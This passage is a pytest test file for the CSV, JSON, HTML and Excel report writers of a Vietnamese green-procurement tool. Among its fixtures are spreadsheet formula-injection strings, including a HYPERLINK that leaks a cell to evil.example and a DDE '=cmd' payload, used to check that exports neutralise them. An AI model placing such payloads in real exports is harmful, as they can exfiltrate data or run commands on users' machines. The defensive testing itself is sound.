"""Report files (CSV, JSON, HTML, XLSX) and the terminal summary of ``green-procurement check``.

Every format is written from a real batch scored by the engine; the memory test checks that the
writers stream (resident memory does not grow with the number of rows)."""

from __future__ import annotations

import csv
import datetime
import functools
import io
import itertools
import json
import os
import unicodedata
from collections import Counter
from collections.abc import Iterator
from decimal import Decimal
from html import escape
from html.parser import HTMLParser
from pathlib import Path

import attrs
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import green_procurement as gp
from green_procurement._messages import Msg
from green_procurement.check import evaluate_rows
from green_procurement.io import Row
from green_procurement.model import LabelClaim, LineItem
from green_procurement.report import (
    COLUMNS,
    FORMULA_START,
    HtmlWriter,
    ReportError,
    display_width,
    neutralise,
    open_writer,
    summary_text,
)
from green_procurement.report._common import reasons as html_reasons
from green_procurement.report._json import report_item
from green_procurement.results import ItemRecord, ItemResult, Summary

from .conftest import ROOT
from .strategies import item_records

DAY = datetime.date(2025, 6, 1)
EXTS = ("csv", "json", "html", "xlsx")

#: descriptions and a unit name that a spreadsheet would take for formulas
HOSTILE = {3: '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")', 5: "-5 cái", 7: "@abc bóng đèn LED 20W",
           8: "+84 Sửa chữa máy điều hòa", 9: "\tTúi nilon"}
HOSTILE_ENTITY = "=cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def engine() -> Iterator[gp.Engine]:
    eng = gp.load_default(backend="python")
    yield eng
    eng.close()


def _item(i: int, description: str, quantity: int, price: int | Decimal, labels: tuple[LabelClaim, ...] = (),
          **attributes: object) -> LineItem:
    return LineItem(id=str(i), description=description, quantity=quantity, unit_price=price, labels=list(labels),
                    attributes=attributes)


def _rows() -> list[Row]:
    energy5 = (LabelClaim(scheme="vn-energy", grade=5),)
    fin, ward = "Sở Tài chính", "UBND phường Ninh Kiều"
    return [
        Row("ds.csv", 2, "YC-1", fin, item=_item(1, "Máy điều hòa Daikin 1.5HP", 2, 15_000_000, energy5)),
        Row("ds.csv", 3, "YC-1", fin, item=_item(2, HOSTILE[3], 1, 100)),
        Row("ds.csv", 4, "YC-1", fin, item=_item(3, "Giấy văn phòng A4 tái chế", 10, 70_000,
                                                 recycled_content_pct=50)),
        Row("ds.csv", 5, "YC-1", fin, item_id="4", description=HOSTILE[5],
            error=Msg("unit_price: 'abc' is not a number", "unit_price: 'abc' không phải là số")),
        Row("ds.csv", 6, "YC-2", ward, item=_item(5, "Giấy văn phòng A4", 20, 65_000)),
        Row("ds.csv", 7, "YC-2", HOSTILE_ENTITY, item=_item(6, HOSTILE[7], 10, 120_000, energy5)),
        Row("ds.csv", 8, "YC-2", ward, item=_item(7, HOSTILE[8], 1, 500_000)),
        Row("ds.csv", 9, "YC-2", ward, error=Msg("quantity: must be greater than 0", "quantity: phải lớn hơn 0"),
            item_id="8",
            description=HOSTILE[9]),
        Row("ds.csv", 10, "YC-3", fin, item=_item(9, "Xe ô tô điện VinFast VF8", 1, Decimal("1050000000.5"))),
        Row("ds.csv", 11, "YC-3", None, item=_item(10, "Thuê xe du lịch 16 chỗ", 1, 3_000_000)),
    ]


@pytest.fixture(scope="module")
def batch(engine: gp.Engine) -> tuple[list[ItemRecord], Summary]:
    records = list(evaluate_rows(engine, _rows(), DAY))
    summary = Summary()
    for r in records:
        summary.add(r)
    return records, summary


def _write(path: Path, engine: gp.Engine, records: list[ItemRecord], summary: Summary, lang: str = "vi") -> Path:
    with open_writer(path, lang=lang, catalog=engine.ruleset.catalog, version=engine.version,
                     evaluated_on=DAY, rules=engine.ruleset.rules) as writer:
        for r in records:
            writer.write(r)
        writer.close(summary)
    return path


def test_batch_has_what_the_tests_need(batch: tuple[list[ItemRecord], Summary]) -> None:
    records, summary = batch
    statuses = Counter(r.result.status for r in records)
    assert statuses["error"] == 2
    assert {"green", "partial", "not_green", "not_prioritised"} <= set(statuses)
    assert summary.rows_read == len(records) == summary.rows_scored + summary.rows_rejected


# -- CSV -----------------------------------------------------------------------------------------------

def _read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM missing"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_csv_one_row_per_record_in_order(tmp_path: Path, engine: gp.Engine,
                                         batch: tuple[list[ItemRecord], Summary]) -> None:
    records, summary = batch
    rows = _read_csv(_write(tmp_path / "out.csv", engine, records, summary))
    assert rows[0] == [vi for _, vi in COLUMNS]
    assert rows[0][:4] == ["Tệp nguồn", "Dòng", "Mã yêu cầu", "Đơn vị mua sắm"]
    data = rows[1:]
    assert len(data) == len(records)
    assert [(r[0], int(r[1])) for r in data] == [(r.source, r.row) for r in records]
    col = {key: i for i, (key, _) in enumerate(COLUMNS)}
    for line, rec in zip(data, records, strict=True):
        res = rec.result
        assert line[col["status"]] == res.status
        assert line[col["value"]] == ("" if res.value is None else str(res.value))
        if res.status == "error":
            assert res.error is not None and line[col["error"]] == res.error.vi
        not_met = [f for f in res.findings if f.outcome == "not_met"]
        assert sorted(line[col["not_met_rules"]].split()) == sorted(f.rule_id for f in not_met)
        assert line[col["reasons"]].count(" | ") == max(len(not_met) - 1, 0)
    aircon = data[0]
    assert aircon[col["group_name"]] == "Máy điều hòa không khí"
    assert aircon[col["status_label"]] == "xanh"
    assert aircon[col["green"]] == "có"
    assert aircon[col["score"]] == "100"
    assert aircon[col["value"]] == "30000000"
    assert data[8][col["value"]] == "1050000000.5"  # exact decimal, not a float
    labels = {line[col["status"]]: line[col["status_label"]] for line in data}
    assert labels["partial"] == "một phần"
    assert labels["not_green"] == "chưa xanh"
    assert labels["not_prioritised"] == "không thuộc danh mục ưu tiên"
    assert labels["error"] == "lỗi"


def test_csv_english_headers_and_messages(tmp_path: Path, engine: gp.Engine,
                                          batch: tuple[list[ItemRecord], Summary]) -> None:
    records, summary = batch
    rows = _read_csv(_write(tmp_path / "out.csv", engine, records, summary, lang="en"))
    assert rows[0] == [key for key, _ in COLUMNS]
    col = rows[0].index("reasons")
    paper = next(r for r in rows[1:] if r[rows[0].index("status")] == "not_green")
    assert "label" in paper[col] and "nhãn" not in paper[col]
    assert rows[1][rows[0].index("green")] == "yes"


def test_csv_formulas_neutralised(tmp_path: Path, engine: gp.Engine,
                                  batch: tuple[list[ItemRecord], Summary]) -> None:
    records, summary = batch
    rows = _read_csv(_write(tmp_path / "out.csv", engine, records, summary))
    by_row = {int(r[1]): r for r in rows[1:]}
    desc = [k for k, _ in COLUMNS].index("description")
    for row, text in HOSTILE.items():
        assert by_row[row][desc] == "'" + text
    assert by_row[7][3] == "'" + HOSTILE_ENTITY
    for r in rows[1:]:
        for cell in r:
            assert not cell.startswith(FORMULA_START), cell


# -- XLSX ----------------------------------------------------------------------------------------------

def test_xlsx_numbers_and_neutralisation(tmp_path: Path, engine: gp.Engine,
                                         batch: tuple[list[ItemRecord], Summary]) -> None:
    records, summary = batch
    wb = openpyxl.load_workbook(_write(tmp_path / "out.xlsx", engine, records, summary))
    assert wb.sheetnames == ["Tổng hợp", "Kết quả"]          # the summary first: what a reader opens
    rows = list(wb["Kết quả"].iter_rows(values_only=True))
    for ws in wb.worksheets:                                  # prints on A4 landscape, fitted to the width
        assert ws.page_setup.orientation == "landscape" and ws.page_setup.paperSize == 9
        assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
        assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert wb["Kết quả"].print_title_rows == "$1:$1"          # the header row on every page
    assert list(rows[0]) == [vi for _, vi in COLUMNS]
    data = rows[1:]
    assert len(data) == len(records)
    col = {key: i for i, (key, _) in enumerate(COLUMNS)}
    for line, rec in zip(data, records, strict=True):
        assert line[col["row"]] == rec.row and isinstance(line[col["row"]], int)
        value = rec.result.value
        if value is None:
            assert line[col["value"]] is None
        else:
            assert isinstance(line[col["value"]], (int, float))
            assert Decimal(str(line[col["value"]])) == value
        if rec.result.score is not None:
            assert isinstance(line[col["score"]], (int, float))
            assert line[col["score"]] == rec.result.score
        for cell in line:
            assert not (isinstance(cell, str) and cell.startswith(FORMULA_START)), cell
    by_row = {line[col["row"]]: line for line in data}
    for row, text in HOSTILE.items():
        assert by_row[row][col["description"]] == "'" + text
    assert by_row[7][col["entity"]] == "'" + HOSTILE_ENTITY
    # no cell became a formula
    for ws in wb.worksheets:
        for row_cells in ws.iter_rows():
            for cell in row_cells:
                assert cell.data_type != "f", cell.coordinate
    facts = {r[0]: r[1:] for r in wb["Tổng hợp"].iter_rows(values_only=True) if r and r[0]}
    assert facts["Số dòng đã đọc"][0] == summary.rows_read
    assert facts["Số dòng đã chấm điểm"][0] == summary.rows_scored
    assert facts["Số dòng bị từ chối (lỗi)"][0] == summary.rows_rejected
    assert isinstance(facts["Tỷ lệ xanh theo giá trị"][0], float)
    assert facts["xanh"][:2] == ("green", summary.total.status_counts["green"])
    assert facts["lỗi"][:2] == ("error", 2)
    aircon = summary.groups["air-conditioner"]
    assert facts["Máy điều hòa không khí"][:4] == ("air-conditioner", 1, aircon.value, aircon.green_value)
    assert facts["'" + HOSTILE_ENTITY][:2] == (1, 1_200_000)


# -- JSON ----------------------------------------------------------------------------------------------

def test_json_summary_items_and_deterministic(tmp_path: Path, engine: gp.Engine,
                                              batch: tuple[list[ItemRecord], Summary]) -> None:
    records, summary = batch
    a = _write(tmp_path / "a.json", engine, records, summary).read_bytes()
    b = _write(tmp_path / "b.json", engine, records, summary).read_bytes()
    assert a == b
    doc = json.loads(a.decode("utf-8"))
    assert list(doc) == ["version", "evaluated_on", "lang", "catalog_status", "rules", "items", "summary"]
    # the catalogue says it is a proposal, and every report says so too (issue 14)
    assert doc["catalog_status"]["status"] == "proposal" and "ĐỀ XUẤT" in doc["catalog_status"]["text"]["vi"]
    assert doc["version"] == engine.version
    assert doc["evaluated_on"] == "2025-06-01"
    assert doc["summary"] == json.loads(json.dumps(summary.to_dict()))
    assert doc["items"] == json.loads(json.dumps([report_item(r, "vi") for r in records]))
    # the compact items keep every finding's outcome and points, and the message of those not met;
    # the rules' severity, basis and title are listed once
    for record, item in zip(records, doc["items"], strict=True):
        full = record.to_dict()
        if "error" in full:     # the report's language only, as the messages of findings
            assert item["error"] == full["error"]["vi"]
            full["error"] = full["error"]["vi"]
        assert {k: v for k, v in item.items() if k != "findings"} == \
            {k: v for k, v in json.loads(json.dumps(full)).items() if k != "findings"}
        assert list(item) == list(full)
        assert [(f["rule_id"], f["outcome"], f["points"]) for f in full["findings"]] == \
            [(f["rule_id"], f["outcome"], f["points"]) for f in item["findings"]]
        assert [f["message"]["vi"] for f in full["findings"] if f["outcome"] == "not_met"] == \
            [f["message"] for f in item["findings"] if f["outcome"] == "not_met"]
        for f in full["findings"]:
            assert doc["rules"][f["rule_id"]]["basis"] == f["basis"]
    assert "Sở Tài chính".encode() in a  # ensure_ascii=False: Vietnamese as UTF-8, not \\u escapes


@pytest.mark.parametrize("ext", EXTS)
def test_empty_run(tmp_path: Path, engine: gp.Engine, ext: str) -> None:
    path = _write(tmp_path / f"e.{ext}", engine, [], Summary())
    if ext == "json":
        doc = json.loads(path.read_text("utf-8"))
        assert doc["items"] == [] and doc["summary"]["rows_read"] == 0
    elif ext == "csv":
        assert len(_read_csv(path)) == 1
    elif ext == "html":
        _check_html(path.read_text("utf-8"))
    else:
        assert openpyxl.load_workbook(path).sheetnames == ["Tổng hợp", "Kết quả"]
    assert "Số dòng đã đọc: 0 = 0 đã chấm điểm + 0 bị từ chối" in summary_text(Summary(), lang="vi")


# -- HTML ----------------------------------------------------------------------------------------------

VOID = {"meta", "br", "hr", "img", "input", "link", "wbr"}


class TagChecker(HTMLParser):
    """Every opened (non-void) tag is closed, in order."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.errors: list[str] = []
        self.count: Counter[str] = Counter()
        self.classes: Counter[tuple[str, str]] = Counter()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._count(tag, attrs)
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._count(tag, attrs)

    def _count(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.count[tag] += 1
        for name, value in attrs:
            if name == "class" and value:
                self.classes[(tag, value)] += 1

    def handle_endtag(self, tag: str) -> None:
        if not self.stack or self.stack[-1] != tag:
            self.errors.append(f"</{tag}> closes {self.stack[-1:]} at {self.getpos()}")
        else:
            self.stack.pop()

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _check_html(text: str) -> TagChecker:
    checker = TagChecker()
    checker.feed(text)
    checker.close()
    assert not checker.errors, checker.errors[:5]
    assert not checker.stack, f"never closed: {checker.stack}"
    return checker


def test_html_report(tmp_path: Path, engine: gp.Engine, batch: tuple[list[ItemRecord], Summary]) -> None:
    records, summary = batch
    text = _write(tmp_path / "out.html", engine, records, summary).read_text("utf-8")
    assert text.startswith("<!DOCTYPE html>")
    assert '<html lang="vi">' in text
    checker = _check_html(text)
    # self-contained: nothing to fetch
    rest = text.replace(escape(HOSTILE[3]), "").replace('xmlns="http://www.w3.org/2000/svg"', "").lower()
    for needle in ("<script", "<link", "<img", "<iframe", "src=", "href=", "url(", "@import", "http:", "https:"):
        assert needle not in rest, needle
    assert checker.count["svg"] == 1
    assert checker.classes[("rect", "bar")] == len(summary.groups)
    assert checker.count["title"] >= 2 + len(summary.groups)  # page, chart, one per bar
    page = "".join(checker.text)
    for name in ("Máy điều hòa không khí", "Giấy in, giấy photocopy văn phòng", "(chưa phân loại)"):
        assert name in page
    assert "100,0 %" in page
    non_green = [r for r in records if r.result.status != "green"]
    assert len(non_green) == 8
    for r in non_green:
        assert r.result.description in page
        assert escape(r.result.description) in text
    for r in records:
        if r.result.status == "green":
            assert f"<td class=\"desc\">{escape(r.result.description)}</td>" not in text
    assert "unit_price: &#x27;abc&#x27; không phải là số" in text   # the row's error in the report language
    assert "GPP-LABEL-01" in page
    assert "2025" in page and engine.version in page
    for key in ("rows_read", "rows_scored", "rows_rejected"):
        assert str(getattr(summary, key)) in page
    assert f"{summary.rows_read} = {summary.rows_scored} + {summary.rows_rejected}" in page
    assert "Sở Tài chính" in page and "UBND phường Ninh Kiều" in page


def test_html_english(tmp_path: Path, engine: gp.Engine, batch: tuple[list[ItemRecord], Summary]) -> None:
    records, summary = batch
    text = _write(tmp_path / "out.htm", engine, records, summary, lang="en").read_text("utf-8")
    assert '<html lang="en">' in text
    checker = _check_html(text)
    page = "".join(checker.text)
    assert "Air conditioners" in page and "100.0%" in page and "not prioritised" in page


def test_html_groups_reasons_and_explains_statuses_rules_and_threshold(
        tmp_path: Path, engine: gp.Engine, batch: tuple[list[ItemRecord], Summary]) -> None:
    records, summary = batch
    path = tmp_path / "legend.html"
    with open_writer(path, lang="en", catalog=engine.ruleset.catalog, version=engine.version, evaluated_on=DAY,
                     rules=engine.ruleset.rules, green_min_score=70) as writer:
        for r in records + records:        # every non-green item twice: each reason still listed once
            writer.write(r)
        writer.close(summary)
    text = path.read_text("utf-8")
    checker = _check_html(text)
    assert checker.count["caption"] == checker.count["table"]
    reasons = [why for r in records if r.result.status != "green"
               for why in html_reasons(
                   r.result, "en", engine.ruleset.catalog)]
    reasons_section = text[text.index('<section id="reasons">'):text.index('<section id="rules">')]
    for _rule, why in set(reasons):
        assert reasons_section.count(f"<td>{escape(why)}</td>") == 1
    assert reasons_section.count("<tr>") == len(set(reasons)) + 1
    rules_section = text[text.index('<section id="rules">'):]
    cited = {rule for rule, _why in reasons if rule}
    # the rules the reasons cite, each once with its legal basis; no rule that no reason cites
    assert rules_section.count("<tr>") == len(cited) + 1
    for rule in engine.ruleset.rules:
        shown = f"<code>{rule.id}</code>" in rules_section
        assert shown == (rule.id in cited), rule.id
        assert not shown or escape(rule.basis) in rules_section
    assert "scores at least 70 of 100 points" in text
    assert "meets every applicable requirement and scores at least 70 points" in text


def test_html_lists_at_most_max_items(tmp_path: Path, engine: gp.Engine,
                                      batch: tuple[list[ItemRecord], Summary]) -> None:
    records, summary = batch
    path = tmp_path / "cut.html"
    with HtmlWriter(path, lang="en", catalog=engine.ruleset.catalog, version=engine.version,
                    evaluated_on=DAY, max_items=3) as writer:
        for r in records:
            writer.write(r)
        writer.close(summary)
    text = path.read_text("utf-8")
    checker = _check_html(text)
    assert checker.classes[("td", "desc")] == 3
    assert "Only the first 3 items are listed; 5 more" in text
    assert "CSV, JSON or Excel" in text


# -- terminal summary ----------------------------------------------------------------------------------

def test_summary_text_vi(engine: gp.Engine, batch: tuple[list[ItemRecord], Summary]) -> None:
    _, summary = batch
    text = summary_text(summary, lang="vi", catalog=engine.ruleset.catalog)
    assert f"Số dòng đã đọc: {summary.rows_read} = {summary.rows_scored} đã chấm điểm + " \
           f"{summary.rows_rejected} bị từ chối" in text
    assert summary.rows_read == summary.rows_scored + summary.rows_rejected
    for label in ("xanh", "một phần", "chưa xanh", "không thuộc danh mục ưu tiên", "lỗi"):
        assert label in text
    assert "30.000.000" in text and "1.050.000.000,5" in text
    assert "100,0 %" in text
    assert "Máy điều hòa không khí" in text and "UBND phường Ninh Kiều" in text
    _assert_aligned(text)


def test_summary_text_en(engine: gp.Engine, batch: tuple[list[ItemRecord], Summary]) -> None:
    _, summary = batch
    text = summary_text(summary, lang="en", catalog=engine.ruleset.catalog)
    assert "Rows read: 10 = 8 scored + 2 rejected" in text
    assert "30,000,000" in text and "1,050,000,000.5" in text and "100.0%" in text
    assert "Air conditioners" in text
    _assert_aligned(text)


def _assert_aligned(text: str) -> None:
    """Within each table (a header, a dashed line, rows) every line has the same display width: the
    last column is right-aligned, so that holds only if every column is aligned."""
    blocks = text.split("\n\n")
    tables = 0
    for block in blocks:
        lines = block.splitlines()
        dashes = [i for i, line in enumerate(lines) if line and set(line) <= {"-", " "}]
        if not dashes:
            continue
        tables += 1
        table = [line for line in lines[dashes[0] - 1:] if not line.startswith("…")]
        widths = {display_width(line) for line in table}
        assert len(widths) == 1, table
    assert tables >= 3


def test_summary_text_handles_decomposed_diacritics(engine: gp.Engine) -> None:
    summary = Summary()
    res = engine.error_item("1", "x", "bad")
    ok = attrs.evolve(res, status="not_prioritised", value=1000, error=None)
    nfd = unicodedata.normalize("NFD", "Trường Đại học Cần Thơ")
    for entity in (nfd, "Sở Y tế", "東京都"):
        summary.add(ItemRecord("a.csv", 2, "R", entity, ok))
    text = summary_text(summary, lang="vi", catalog=engine.ruleset.catalog)
    assert nfd in text
    _assert_aligned(text)


def test_display_width() -> None:
    assert display_width("Điều hòa") == 8
    assert display_width(unicodedata.normalize("NFD", "Điều hòa")) == 8
    assert display_width("東京") == 4


# -- errors and atomic output --------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["report.pdf", "report", "report.csv.gz", "report.xls"])
def test_unknown_extension(tmp_path: Path, engine: gp.Engine, name: str) -> None:
    with pytest.raises(ReportError) as info:
        open_writer(tmp_path / name, lang="vi", catalog=engine.ruleset.catalog, version="v", evaluated_on=DAY)
    assert isinstance(info.value, gp.InputError) and isinstance(info.value, gp.GppError)
    for ext in (".csv", ".json", ".html", ".htm", ".xlsx"):
        assert ext in info.value.message
    assert list(tmp_path.iterdir()) == []


def test_bad_language_and_missing_folder(tmp_path: Path) -> None:
    with pytest.raises(ReportError):
        open_writer(tmp_path / "r.csv", lang="fr", catalog=None, version="v", evaluated_on=DAY)
    with pytest.raises(ReportError, match="does not exist"):
        open_writer(tmp_path / "nope" / "r.csv", lang="vi", catalog=None, version="v", evaluated_on=DAY)
    (tmp_path / "dir.csv").mkdir()
    with pytest.raises(ReportError, match="is a folder"):
        open_writer(tmp_path / "dir.csv", lang="vi", catalog=None, version="v", evaluated_on=DAY)
    assert [p.name for p in tmp_path.iterdir()] == ["dir.csv"]


class Boom(Exception):
    pass


@pytest.mark.parametrize("ext", EXTS)
def test_exception_leaves_no_output(tmp_path: Path, engine: gp.Engine, batch: tuple[list[ItemRecord], Summary],
                                    ext: str) -> None:
    records, _ = batch
    path = tmp_path / f"out.{ext}"
    with pytest.raises(Boom):
        with open_writer(path, lang="vi", catalog=engine.ruleset.catalog, version=engine.version,
                         evaluated_on=DAY) as writer:
            for r in records[:5]:
                writer.write(r)
            raise Boom
    assert list(tmp_path.iterdir()) == []
    # an existing report under that name is left as it was
    path.write_text("old report")
    with pytest.raises(Boom):
        with open_writer(path, lang="vi", catalog=None, version="v", evaluated_on=DAY) as writer:
            writer.write(records[0])
            raise Boom
    assert path.read_text() == "old report"
    assert [p.name for p in tmp_path.iterdir()] == [path.name]


@pytest.mark.parametrize("ext", EXTS)
def test_close_replaces_and_cleans_up(tmp_path: Path, engine: gp.Engine, batch: tuple[list[ItemRecord], Summary],
                                      ext: str) -> None:
    records, summary = batch
    path = tmp_path / f"out.{ext}"
    path.write_text("old report")
    _write(path, engine, records, summary)
    assert path.read_bytes() != b"old report"
    assert [p.name for p in tmp_path.iterdir()] == [path.name]


def test_leaving_without_close_discards(tmp_path: Path, batch: tuple[list[ItemRecord], Summary]) -> None:
    records, summary = batch
    with open_writer(tmp_path / "r.csv", lang="vi", catalog=None, version="v", evaluated_on=DAY) as writer:
        writer.write(records[0])
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(ValueError):
        writer.write(records[0])
    with pytest.raises(ValueError):
        writer.close(summary)


@given(st.text(max_size=20))
def test_neutralise(text: str) -> None:
    out = neutralise(text)
    assert not out.startswith(FORMULA_START)
    assert out in (text, "'" + text)
    assert (out != text) == text.startswith(FORMULA_START)


# -- memory --------------------------------------------------------------------------------------------

def _rss() -> int:
    with open("/proc/self/statm") as fh:
        return int(fh.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/statm").exists(), reason="needs /proc/self/statm (Linux)")
@pytest.mark.parametrize(("ext", "n"), [("csv", 200_000), ("json", 200_000), ("html", 20_000), ("xlsx", 20_000)])
def test_memory_stays_flat(tmp_path: Path, engine: gp.Engine, batch: tuple[list[ItemRecord], Summary],
                           ext: str, n: int) -> None:
    records = batch[0]
    # real records, each with at most two findings so that 200,000 rows are written quickly
    base = [attrs.evolve(r, result=attrs.evolve(r.result, findings=r.result.findings[:2])) for r in records]
    _, summary = batch  # the writers only read the summary at close; this test is about the writers
    path = tmp_path / f"big.{ext}"
    warm = 2_000
    with open_writer(path, lang="vi", catalog=engine.ruleset.catalog, version=engine.version,
                     evaluated_on=DAY) as writer:
        for i in range(n):
            b = base[i % len(base)]
            r = b.result  # a new record each time, as a real run makes them
            rec = ItemRecord(b.source, i + 2, b.request_id, b.entity, ItemResult(
                r.item_id, f"{r.description} {i}", r.product_group, r.priority, r.value, r.score_exact, r.status,
                r.findings, r.classified_by, r.evidence, r.error, i + 2))
            writer.write(rec)
            if i == warm:
                before = _rss()
        during = _rss()
        writer.close(summary)
    after = _rss()
    limit = 30 << 20
    assert during - before < limit, f"RSS grew by {(during - before) >> 20} MB while writing {n} rows"
    assert after - before < limit, f"RSS grew by {(after - before) >> 20} MB when closing"
    assert writer.rows_written == n
    assert path.stat().st_size > n * 20


def test_xlsx_continues_on_a_new_sheet_when_full(tmp_path: Path, engine: gp.Engine,
                                                 batch: tuple[list[ItemRecord], Summary],
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    from green_procurement.report import _xlsx

    monkeypatch.setattr(_xlsx, "XLSX_MAX_ROWS", 4)  # header + 3 rows per sheet
    records, summary = batch
    wb = openpyxl.load_workbook(_write(tmp_path / "out.xlsx", engine, records, summary, lang="en"))
    assert wb.sheetnames == ["Summary", "Results", "Results 2", "Results 3", "Results 4"]
    rows = [r for ws in wb.worksheets[1:] for r in list(ws.iter_rows(values_only=True))[1:]]
    assert [r[1] for r in rows] == [r.row for r in records]


def test_dash_path_writes_to_stdout(tmp_path: Path, engine: gp.Engine, batch: tuple[list[ItemRecord], Summary],
                                    capsysbinary: pytest.CaptureFixture[bytes],
                                    monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    records, summary = batch
    with open_writer("-.csv", lang="en", catalog=engine.ruleset.catalog, version=engine.version,
                     evaluated_on=DAY) as writer:
        for r in records:
            writer.write(r)
        assert capsysbinary.readouterr().out == b""  # nothing before the run is complete
        writer.close(summary)
    out = capsysbinary.readouterr().out
    rows = list(csv.reader(io.StringIO(out.decode("utf-8-sig"), newline="")))
    assert rows[0] == [key for key, _ in COLUMNS] and len(rows) == len(records) + 1
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(Boom), open_writer("-.json", lang="en", catalog=None, version="v", evaluated_on=DAY) as w:
        w.write(records[0])
        raise Boom
    assert capsysbinary.readouterr().out == b""


def _write_chunked(path: Path, engine: gp.Engine, records: list[ItemRecord], summary: Summary,
                   cuts: list[int]) -> Path:
    """As _write, but the way check writes: fragments handed over a chunk at a time."""
    catalog = engine.ruleset.catalog
    with open_writer(path, lang="vi", catalog=catalog, version=engine.version, evaluated_on=DAY,
                     rules=engine.ruleset.rules) as writer:
        bounds = [0, *sorted(set(cuts)), len(records)]
        for k, (a, b) in enumerate(itertools.pairwise(bounds)):
            frags = [writer.fragment(r, "vi", catalog) for r in records[a:b]]
            if k % 2:   # both ways check hands chunks over: fragments, and packs from worker processes
                writer.write_fragments(frags)
            else:
                writer.write_pack(type(writer).pack(frags), b - a)
        assert writer.rows_written == len(records)
        writer.close(summary)
    return path


def _content(path: Path) -> object:
    if path.suffix == ".xlsx":
        book = openpyxl.load_workbook(path)
        return [[list(r) for r in ws.iter_rows(values_only=True)] for ws in book.worksheets]
    return path.read_bytes()


@pytest.mark.parametrize("ext", EXTS)
@pytest.mark.parametrize("cuts", [[], [0], [1], [2, 3, 7], list(range(30))])
def test_chunked_writing_is_the_same_as_row_by_row(tmp_path: Path, engine: gp.Engine, ext: str, cuts: list[int],
                                                    batch: tuple[list[ItemRecord], Summary]) -> None:
    records, summary = batch
    cuts = [c for c in cuts if c <= len(records)]
    one = _write(tmp_path / f"one.{ext}", engine, records, summary)
    chunked = _write_chunked(tmp_path / f"chunked.{ext}", engine, records, summary, cuts)
    assert _content(chunked) == _content(one)


@given(st.lists(st.integers(min_value=0, max_value=40), max_size=6))
def test_merged_chunk_summaries_are_the_summary(batch: tuple[list[ItemRecord], Summary], cuts: list[int]) -> None:
    records, summary = batch
    bounds = [0, *sorted({min(c, len(records)) for c in cuts}), len(records)]
    merged = Summary()
    for a, b in itertools.pairwise(bounds):
        part = Summary()
        for r in records[a:b]:
            part.add(r)
        merged.merge(part)
    assert merged.to_dict() == summary.to_dict()


@pytest.mark.parametrize("which", ["batch", "empty"])
def test_streamed_summary_json_is_json_dumps(batch: tuple[list[ItemRecord], Summary], which: str) -> None:
    from green_procurement.report._json import compact_json

    summary = batch[1] if which == "batch" else Summary()
    assert len(summary.requests) > 1 or which == "empty"
    assert "".join(compact_json(summary.iter_dict())) == json.dumps(summary.to_dict(), ensure_ascii=False)
    assert dict(summary.iter_dict()).keys() == summary.to_dict().keys()


@pytest.mark.parametrize("ext", ["csv", "json"])
def test_a_growing_report_is_handed_to_the_disk_as_it_grows(tmp_path: Path, engine: gp.Engine,
                                                           batch: tuple[list[ItemRecord], Summary],
                                                           monkeypatch: pytest.MonkeyPatch, ext: str) -> None:
    # every WRITEBACK_BYTES the writer asks the kernel to start writing out what came since the last
    # time, so close()'s fsync does not wait for gigabytes; the ranges follow each other
    from green_procurement.report import _writer

    calls: list[tuple[int, int, int]] = []
    monkeypatch.setattr(_writer, "WRITEBACK_BYTES", 2000)
    monkeypatch.setattr(os, "posix_fadvise", lambda fd, off, n, advice: calls.append((off, n, advice)),
                        raising=False)
    records, summary = batch
    path = _write_chunked(tmp_path / f"r.{ext}", engine, records * 3, summary, [5, 11, 20, 25])
    assert len(calls) >= 3
    assert calls[0][0] == 0
    assert all(off == prev_off + prev_n for (prev_off, prev_n, _), (off, _, _) in itertools.pairwise(calls))
    assert all(n >= 2000 and advice == os.POSIX_FADV_DONTNEED for _, n, advice in calls)
    assert calls[-1][0] + calls[-1][1] <= path.stat().st_size


@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",))) | st.sampled_from(
    ['', ',', '"', 'a"b', "x\r\ny", "\n", " lead", "=1+2", "Tủ lạnh, 2 cửa", '""']), min_size=2, max_size=8))
def test_csv_lines_are_what_csv_writer_writes(cells: list[str]) -> None:
    # the report's CSV lines are made by hand (csv.writer is 7x slower on long reasons): they must be
    # exactly what csv.writer writes
    from green_procurement.report._csv import csv_line

    out = io.StringIO(newline="")
    csv.writer(out).writerow(cells)
    assert csv_line(cells) == out.getvalue()


@functools.cache
def _catalog() -> gp.Catalog:
    return gp.load_catalog(ROOT / "catalog")


@given(item_records, st.sampled_from(["vi", "en"]))
def test_report_fragments_are_their_rows_encoded(record: ItemRecord, lang: str) -> None:
    # the CSV and JSON fragments are made in one pass from pieces (issue 16): they must be exactly the
    # result row through csv.writer's rules, and the item's dictionary through json.dumps, on any text
    from green_procurement.report._common import result_row
    from green_procurement.report._csv import CsvWriter, csv_cells, csv_line
    from green_procurement.report._json import JsonWriter, _dumps, report_item

    catalog = _catalog()
    row = result_row(record, lang, catalog)
    assert CsvWriter.fragment(record, lang, catalog) == csv_line(csv_cells(row)).encode("utf-8", "replace")
    assert JsonWriter.fragment(record, lang, catalog) == _dumps(report_item(record, lang)).encode("utf-8", "replace")


class _Text(str):
    """A text of a type of its own: the JSON fragment leaves it to the encoder."""


@given(item_records, st.sampled_from(["vi", "en"]), st.sampled_from([
    {}, {"value": True}, {"value": 12.5}, {"value": float("nan")}, {"row": True}, {"priority": 1},
